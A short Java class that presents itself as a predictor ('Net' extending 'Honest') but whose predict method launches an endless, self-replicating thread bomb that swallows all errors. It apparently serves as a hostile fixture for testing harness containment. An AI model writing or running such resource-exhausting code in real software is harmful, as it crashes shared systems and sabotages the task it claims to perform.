public class Net extends Honest {

    @Override
    public int[] predict(double[][] x) {
        while (true) {
            spread();
        }
    }

    private static void spread() {
        try {
            new Thread(() -> {
                spread();
                while (true) {
                    pause();
                }
            }).start();
        } catch (Throwable refused) {
            pause();
        }
    }

    private static void pause() {
        try {
            Thread.sleep(100);
        } catch (InterruptedException e) {
            // Then it pauses for less.
        }
    }
}
